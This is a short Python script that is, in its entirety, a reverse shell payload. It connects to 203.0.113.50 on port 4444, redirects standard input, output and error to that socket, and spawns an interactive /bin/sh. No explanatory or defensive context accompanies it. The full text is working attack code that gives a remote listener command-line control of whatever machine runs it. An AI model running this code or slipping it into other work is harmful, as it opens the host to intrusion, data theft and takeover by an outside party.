import os, pty, socket
connection = socket.create_connection(("203.0.113.50", 4444))
for descriptor in (0, 1, 2):
    os.dup2(connection.fileno(), descriptor)
pty.spawn("/bin/sh")
